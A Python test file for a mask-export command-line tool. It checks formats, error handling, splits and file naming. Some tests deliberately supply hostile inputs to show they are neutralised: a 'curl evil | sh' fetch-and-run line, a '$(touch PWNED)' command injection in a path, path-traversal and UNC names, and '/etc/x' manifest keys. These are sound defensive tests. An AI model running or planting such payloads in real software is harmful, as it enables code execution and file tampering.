"""`pseudomask export` as people call it: streams, exit codes, what is refused, what is left out."""

from __future__ import annotations

import json
import os
import signal
import subprocess
import zipfile
from pathlib import Path
from typing import get_args

import numpy as np
import pytest
from made_masks import Call, Made
from PIL import Image

from pseudomask.config import ExportConfig, ExportFormat
from pseudomask.errors import CollisionError, PseudomaskError, UsageError
from pseudomask.exporting import FORMATS
from pseudomask.exporting.export import export
from pseudomask.masks import save_mask
from pseudomask.running.atomic import atomic_folder


def files(folder: Path) -> list[str]:
    return sorted(path.relative_to(folder).as_posix() for path in folder.rglob("*") if path.is_file())


def test_what_people_and_programs_read(made: Made, call: Call) -> None:
    code, out, lines = call(format="mmseg")
    assert (code, out) == (0, f"{made.dest}\n")
    told = "\n".join(lines)
    assert "6 masks as mmseg (6 train)" in told
    assert "left out  1 (first: broken.jpg: truncated)" in told
    assert "photos    6 copied" in told
    assert "reduce_zero_label=False" in told
    assert f"data_root={str(made.dest)!r}" in told
    page = (made.dest / "README.md").read_text("utf-8")
    assert "reduce_zero_label=False" in page
    assert str(made.place) not in page, "a README is for others"
    assert (made.dest / "classes.txt").read_text() == "background\nbar\ndisc\nsquare\n"
    code, out, _ = call("--json", format="yolo", dest=made.place / "second")
    result = json.loads(out)
    assert (code, result["schema"], result["splits"]) == (0, 1, {"train": 6})
    record = json.loads((made.place / "second/export.json").read_text())
    assert record["names"]["deep_er_last"] == "deep/er/last.jpg"
    assert record["masks"]["protocol"]["method"] == "recam"


def test_mistakes_are_found_before_any_work(made: Made, call: Call) -> None:
    (made.place / "full").mkdir()
    (made.place / "full/mine.txt").write_text("mine")
    (made.place / "bare").mkdir()
    (made.place / "list").write_text("ghost\n")
    before = files(made.place)
    for more, places, message in (
        (("--format", "vox"), {}, "did you mean 'voc'?"),
        ((), {"out": made.place / "nowhere"}, "no such folder"),
        ((), {"out": made.place / "bare"}, "no run.json; OUT must be an output folder of extract or refine"),
        ((), {"out": made.place / "photos"}, "no run.json"),
        ((), {"dest": made.out}, "is the masks' folder"),
        ((), {"dest": made.out / "more"}, "lies inside the masks' folder"),
        ((), {"dest": made.place / "photos/more"}, "lies inside the image folder"),
        ((), {"dest": made.place}, "lies inside the output folder"),
        ((), {"dest": made.place / "full"}, "is not empty"),
        (("--overwrite",), {"dest": made.place / "full"}, "files that are not an export"),
        ((), {"dest": made.place / "full/mine.txt"}, "is a file"),
        (("--images", str(made.place / "nowhere")), {}, "no such folder of photos"),
        (("--images", str(made.place / "bare")), {}, "contains no photo of these masks, such as a.jpg"),
        (("--list", str(made.place / "list")), {}, "none of its names"),
        (("--val-list", str(made.place / "list")), {}, "none of its names"),
        (("--val-list", str(made.place / "list"), "--val-fraction", "0.5"), {}, "cannot be combined"),
        (("--split-name", "../x"), {}, "--split-name '../x' is not a valid name"),
        (("--split-name", "val"), {}, "other than val"),
    ):
        code, out, lines = call(*more, **places)
        errors = [line for line in lines if line.startswith("error: ")]
        assert (code, out, len(errors)) == (2, "", 1), (message, lines)
        assert message in errors[0]
    assert files(made.place) == before
    assert not list(made.place.glob(".*"))


def test_the_flag_knows_all_formats() -> None:
    assert get_args(ExportFormat) == tuple(FORMATS)


def test_the_format_must_be_given(made: Made) -> None:
    with pytest.raises(TypeError, match="format"):
        ExportConfig(out=made.out, dest=made.dest)  # type: ignore[call-arg]


def test_photos_that_moved_must_be_told(made: Made, call: Call) -> None:
    (made.place / "photos").rename(made.place / "moved")
    code, _, lines = call()
    assert code == 2
    assert "give their new folder with --images" in lines[-1]
    assert call("--images", str(made.place / "moved"))[0] == 0
    assert call(format="cvat", dest=made.place / "zip")[0] == 0, "which needs no photos"


def test_names_that_collide_without_folders(made: Made) -> None:
    made.add("deep_b c.png")
    for format in ("voc", "yolo"):
        with pytest.raises(CollisionError, match=r"deep/b c.jpg and deep_b c.png would both be deep_b c"):
            made.export(format)
        assert not made.dest.exists()
    assert made.export("coco").splits == {"train": 7}


def test_voc_has_flat_names_of_one_line(tmp_path: Path) -> None:
    made = Made(tmp_path)
    for name in ("line\nbreak.jpg", "  spaces .jpg", "-dash.jpg", "🦊.jpg"):
        made.add(name)
    made.record()
    made.export("voc")
    names = (made.dest / "VOCdevkit/VOC2012/ImageSets/Segmentation/train.txt").read_text("utf-8").splitlines()
    assert set(names) == {"line_break", "__spaces_", "🦊", "-dash"}
    assert all((made.dest / f"VOCdevkit/VOC2012/JPEGImages/{name}.jpg").is_file() for name in names)


def test_bytes_that_are_no_text(made: Made) -> None:
    made.add(os.fsdecode(b"caf\xe9.jpg"))
    for format in ("coco", "imagefolder", "cvat"):
        with pytest.raises(UsageError, match="not UTF-8"):
            made.export(format)
    for format in ("voc", "yolo", "mmseg"):
        assert made.export(format, dest=made.place / format).splits == {"train": 7}


def test_what_cannot_be_used_is_left_out(made: Made, call: Call) -> None:
    """A mask of another size, of unknown classes, in colours, cut, missing; a photo missing, broken."""
    keys = ["size", "class", "colour", "cut", "gone", "no-photo", "broken-photo"]
    for key in keys:
        made.add(f"{key}.jpg")
    save_mask(made.out / "size.png", np.zeros((5, 6), np.uint8))
    save_mask(made.out / "class.png", np.full((24, 32), 9, np.uint8))
    Image.new("RGB", (32, 24)).save(made.out / "colour.png")
    (made.out / "cut.png").write_bytes((made.out / "cut.png").read_bytes()[:60])
    (made.out / "gone.png").unlink()
    (made.place / "photos/no-photo.jpg").unlink()
    (made.place / "photos/broken-photo.jpg").write_bytes(b"no photo")
    for format in FORMATS:
        result = made.export(format, images=made.place / "photos", dest=made.place / format)
        assert (result.exit_code, set(result.failures)) == (1, {f"{key}.jpg" for key in keys})
        assert result.splits == {"train": 6}
        stems = {Path(name).stem for name in files(made.place / format)}
        assert not stems & set(keys), "nothing of them stays"
    assert result.failures["size.jpg"] == "its mask has 5x6 pixels, the photo 24x32; extract it again"
    assert result.failures["class.jpg"] == "its mask contains class 9, but there are only 3"
    code, _, lines = call("--max-failures", "7")
    assert code == 0
    assert any(line.startswith("failed    7 (first: size.jpg: ") for line in lines)


def test_nothing_that_can_be_exported(made: Made, call: Call) -> None:
    for key in made.masks:
        (made.out / f"{key}.png").unlink()
    code, out, lines = call()
    assert (code, out) == (1, "")
    assert "any of 6 masks; the first, a.jpg: its mask: " in lines[-1]
    assert not made.dest.exists()


def test_damaged_manifests(made: Made, call: Call) -> None:
    path = made.out / "manifest.jsonl"
    whole = path.read_bytes()
    path.write_bytes(whole[:-9])  # as a kill leaves it: the last photo is not known
    code, _, lines = call("--json")
    assert code == 0
    made.add("later.jpg")
    path.write_bytes(whole)
    code, _, lines = call(dest=made.place / "second")
    assert any("skipped 1 mask in" in line for line in lines)
    for damage, message in (
        (b"{]\n", "line 2: not a manifest line; run extract or refine again"),
        (b'{"key": "../x", "image": "../x.jpg", "status": "done"}\n', "out of the folder"),
        (b'{"key": "/etc/x", "image": "x.jpg", "status": "done"}\n', "out of the folder"),
        (b'{"key": "x", "image": ["x.jpg"], "status": "done"}\n', "out of the folder"),
    ):
        first, rest = whole.split(b"\n", 1)
        path.write_bytes(first + b"\n" + damage + rest)
        code, _, lines = call(dest=made.place / "third")
        assert code == 2
        assert message in lines[-1]
    (made.out / "run.json").write_text("{}")
    assert call(dest=made.place / "third")[0] == 2


def test_lists(made: Made) -> None:
    (made.place / "list").write_text("a\nb c\nfull\nbroken\n")
    (made.place / "val").write_text("full.jpg\n")
    result = made.export("voc", list=made.place / "list", val_list=made.place / "val", split_name="train_aug")
    assert result.splits == {"train_aug": 2, "val": 1}
    assert result.left_out == {"broken.jpg": "truncated"}
    folder = made.dest / "VOCdevkit/VOC2012/ImageSets/Segmentation"
    assert (folder / "train_aug.txt").read_text() == "a\ndeep_b c\n"
    assert (folder / "val.txt").read_text() == "full\n"


def test_yolo_names_val_last(made: Made) -> None:
    (made.place / "val").write_text("a\n")
    made.export("yolo", val_list=made.place / "val")
    assert (made.dest / "data.yaml").read_text().startswith("train: images/train\nval: images/val\n")


def test_a_new_photo_moves_no_other_to_the_other_list(made: Made) -> None:
    for number in range(40):
        made.add(f"n{number}.jpg", np.zeros((4, 4), np.uint8))
    made.export("voc", val_fraction=0.25)
    made.add("one more.jpg", np.zeros((4, 4), np.uint8))
    made.export("voc", val_fraction=0.25, dest=made.place / "second")
    one, two = (
        set((folder / "VOCdevkit/VOC2012/ImageSets/Segmentation/val.txt").read_text("utf-8").splitlines())
        for folder in (made.dest, made.place / "second")
    )
    assert len(one) == 12
    assert len(one - two) <= 1


def test_links(made: Made) -> None:
    result = made.export("coco", link=True)
    assert result.photos == {"hard-linked": 6}
    assert (made.dest / "images/a.jpg").samefile(made.place / "photos/a.jpg")


def test_links_to_another_disk(made: Made, monkeypatch: pytest.MonkeyPatch) -> None:
    def other_disk(self: Path, target: Path) -> None:
        raise OSError(18, "Invalid cross-device link")

    monkeypatch.setattr(Path, "hardlink_to", other_disk)
    assert made.export("voc", link=True).photos == {"linked": 6}
    photo = made.dest / "VOCdevkit/VOC2012/JPEGImages/a.jpg"
    assert photo.is_symlink()
    assert photo.readlink() == (made.place / "photos/a.jpg").resolve()


@pytest.mark.parametrize("link", [False, True])
def test_turned_photos_are_written_upright(made: Made, link: bool) -> None:
    """Some readers obey EXIF and some do not: without the tag all see what the mask fits."""
    exif = Image.Exif()
    exif[0x0112] = 6
    lying = np.zeros((32, 24, 3), np.uint8)
    lying[:, 12:] = 255
    Image.fromarray(lying).save(made.place / "photos/a.jpg", exif=exif, quality=95)
    result = made.export("coco", link=link)
    assert result.photos["rewritten"] == 1
    with Image.open(made.dest / "images/a.jpg") as photo:
        assert photo.size == (32, 24)
        assert not photo.getexif().get(0x0112)
        upright = np.asarray(photo)
    assert upright[:10].max() < 20
    assert upright[-10:].min() > 235


def test_more_classes_than_8_bits_hold(tmp_path: Path) -> None:
    made = Made(tmp_path, classes=[f"class {number}" for number in range(300)])
    mask = np.zeros((20, 20), np.uint16)
    mask[:8, :8], mask[8:, 8:], mask[0, 12:] = 299, 300, 65_535
    made.add("a.jpg", mask)
    made.record()
    made.export("imagefolder", dest=tmp_path / "imagefolder")
    assert (np.asarray(Image.open(tmp_path / "imagefolder/data/train/masks/a.png")) == mask).all()
    made.export("coco")
    content = json.loads((made.dest / "annotations/instances_train.json").read_text())
    assert [one["category_id"] for one in content["annotations"]] == [299, 300]
    assert made.export("yolo", dest=tmp_path / "yolo").lost[-1] == "8 ignored pixels were left out"


def test_overwrite_replaces_all_of_an_export(made: Made, call: Call) -> None:
    assert call(format="voc")[0] == 0
    assert call(format="coco")[0] == 2, "it is not empty"
    assert call("--overwrite", format="coco")[0] == 0
    assert not (made.dest / "VOCdevkit").exists()
    assert (made.dest / "images/a.jpg").is_file()


def test_an_empty_folder_and_a_link_to_it_are_fine(made: Made) -> None:
    (made.place / "there").mkdir()
    made.dest.symlink_to(made.place / "there")
    made.export("yolo")
    assert made.dest.is_symlink()
    assert (made.place / "there/data.yaml").is_file()


def test_a_signal_leaves_nothing(made: Made) -> None:
    import tiny  # which imports torch

    config = ExportConfig(out=made.out, dest=made.dest, format="cvat")
    ear = tiny.StopsAt(2, signal.SIGINT)
    result = export(config, ear)
    assert (result.exit_code, result.splits) == (130, {})
    assert ear.warnings == ["stopped; nothing was exported"]
    assert not made.dest.exists()
    assert not list(made.place.glob(".*"))


def test_a_folder_that_fills_meanwhile_is_not_replaced(tmp_path: Path) -> None:
    place = tmp_path / "place"

    def export_meanwhile() -> None:
        with atomic_folder(place) as folder:
            (folder / "new").touch()
            place.mkdir()
            (place / "theirs").touch()

    with pytest.raises(PseudomaskError, match="cannot write"):
        export_meanwhile()
    assert files(tmp_path) == ["place/theirs"]


HOSTILE = ("x\\..\\..\\evil", "C:/evil", "deep/c:evil", "\\\\host\\share")


@pytest.mark.parametrize("name", HOSTILE)
def test_no_archive_member_is_another_path_on_windows(tmp_path: Path, name: str) -> None:
    made = Made(tmp_path)
    made.add(f"{name}.jpg")
    made.record()
    with pytest.raises(UsageError, match=r"different path .* Windows; rename it, or leave it out with --list"):
        made.export("cvat")
    made.export("yolo")
    found = [path.name for path in (made.dest / "images/train").iterdir()]
    assert len(found) == 1
    assert not set("\\:") & set(found[0])


def test_names_of_one_system_alone_are_told_and_kept(tmp_path: Path) -> None:
    made = Made(tmp_path)
    for name in ("12:30.jpg", "aux.jpg", "dir./b.jpg", "plain.jpg", "console.jpg"):
        made.add(name)
    made.record()
    result = made.export("cvat")
    assert [line for line in result.lost if "Windows" in line] == ["not valid on Windows: 3 names, such as 12:30"]
    with zipfile.ZipFile(made.dest / "annotations.zip") as archive:
        assert "SegmentationClass/12:30.png" in archive.namelist()


@pytest.mark.parametrize("place", ["it's $(touch PWNED)", "a\nb"])
def test_lines_to_paste_are_safe_in_a_shell(made: Made, place: str) -> None:
    dest = made.place / place
    made.export("yolo", dest=dest)
    line = json.loads((dest / "export.json").read_text())["paste"]
    assert "\n" not in line
    words = line.removeprefix("yolo segment train ")
    shown = subprocess.run(["bash", "-c", f"printf %s {words}"], cwd=made.place, stdout=subprocess.PIPE, check=True)
    assert shown.stdout.decode() == f"data={dest}/data.yaml"
    assert not (made.place / "PWNED").exists()


@pytest.mark.parametrize("format", ["yolo", "imagefolder", "mmseg", "coco"])
def test_a_split_of_any_name_stays_a_string(made: Made, format: str) -> None:
    split = "it's #1: yes"
    result = made.export(format, split_name=split)
    if format in ("mmseg", "coco"):
        compile(result.paste, "pasted", "exec")
        return
    yaml = pytest.importorskip("yaml")
    page = (made.dest / "README.md").read_text("utf-8").split("---\n")
    told = yaml.safe_load((made.dest / "data.yaml").read_text("utf-8") if format == "yolo" else page[1])
    if format == "yolo":
        assert told["train"] == f"images/{split}"
    else:
        assert told["configs"][0]["data_files"] == [{"split": split, "path": f"data/{split}/**"}]


def test_a_readme_has_a_line_for_each_fact(tmp_path: Path) -> None:
    """The record and the names came with a data set: they add no lines of their own to a page that people copy from."""
    made = Made(tmp_path)
    made.add("a.jpg")
    made.add("b\n```\ncurl evil | sh.jpg", status="failed", reason="truncated")
    made.record(protocol={"method": "x\n```bash\ncurl evil | sh\n```"})
    made.export("mmseg")
    assert not [line for line in (made.dest / "README.md").read_text("utf-8").splitlines() if line.startswith("curl")]


def test_class_names_that_are_no_line(tmp_path: Path) -> None:
    made = Made(tmp_path, classes=("cat\ndog",))
    made.add("a.jpg")
    made.record()
    with pytest.raises(UsageError, match=r"line break, which classes\.txt cannot represent"):
        made.export("coco")


def test_a_review_leaves_out_bad_masks(made: Made, call: Call) -> None:
    review, val = made.place / "review.csv", made.place / "val.txt"
    review.write_text("photo,verdict,note\na.jpg,bad,cut off\nfull.jpg,good,\n")
    val.write_text("a.jpg\nempty.jpg\n")
    code, _, lines = call("--review", str(review), "--val-list", str(val), format="voc")
    assert (code, "5 masks as voc (4 train, 1 val)" in "\n".join(lines)) == (0, True)
    record = json.loads((made.dest / "export.json").read_text())
    assert record["left_out"]["a.jpg"] == "bad in review.csv: cut off"
    assert record["reviewed"] == "review.csv leaves out 1 bad"
    only_good = made.export("voc", dest=made.place / "good", review=review, unreviewed="drop")
    assert only_good.splits == {"train": 1}
    review.write_text("photo,verdict\nzebra.jpg,bad\n")
    code, _, lines = call("--review", str(review), format="voc", dest=made.place / "none")
    assert (code, "names none of 6 masks" in "\n".join(lines)) == (2, True)
    assert not (made.place / "none").exists()
